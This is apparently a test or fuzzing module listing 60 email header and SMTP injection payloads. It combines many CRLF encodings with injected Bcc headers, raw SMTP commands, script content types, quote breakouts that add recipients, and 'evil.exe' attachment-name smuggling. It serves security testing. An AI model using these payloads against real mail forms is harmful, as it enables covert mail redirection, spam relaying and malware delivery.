"""What people type to get a header, a recipient or a command of their own into a mail: 60 payloads."""

#: Each ends a line for some parser, or did once.
LINE_ENDS = ("\r\n", "\n", "\r", "\r\n\r\n", "\r\n ", "\0\r\n", "\x0b", "\x85", "\u2028", "\u2029")
DEEDS = (
    "Bcc:eve@example.com",  # without a blank, for in quotes an address may have everything but that
    "RCPT TO:<eve@example.com>\r\nDATA",
    ".\r\nMAIL FROM:<eve@example.com>",
    "Content-Type: text/html\r\n\r\n<script>",
)
#: Those that bring no line end of their own: encoded, cut to one byte by careless code, or from the syntax around.
OTHERS = (
    "%0d%0aBcc: eve@example.com",
    "%0D%0A%0D%0A<p>",
    "\\r\\nBcc: eve@example.com",
    "\\x0d\\x0aBcc: eve@example.com",
    "&#13;&#10;Bcc: eve@example.com",
    "\u560d\u560aBcc: eve@example.com",
    "\u010d\u010aBcc: eve@example.com",
    "\u240d\u240aBcc: eve@example.com",
    "=?utf-8?q?x=0D=0ABcc:_eve@example.com?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBleGFtcGxlLmNvbQ==?=",
    "=?utf-7?q?+AA0ACg-Bcc:?=",
    "=?x?q?=?= =?utf-8?q?=0A?=",
    '" <eve@example.com>, "',
    '\\" <eve@example.com>, \\"',
    "<eve@example.com>",
    ", eve@example.com",
    "; filename=evil.exe; x=",
    '"; name="evil.exe',
    "(comment <eve@example.com>",
    "> SIZE=1 NOTIFY=NEVER ORCPT=rfc822;eve@example.com",
)
PAYLOADS = (*(end + deed for deed in DEEDS for end in LINE_ENDS), *OTHERS)
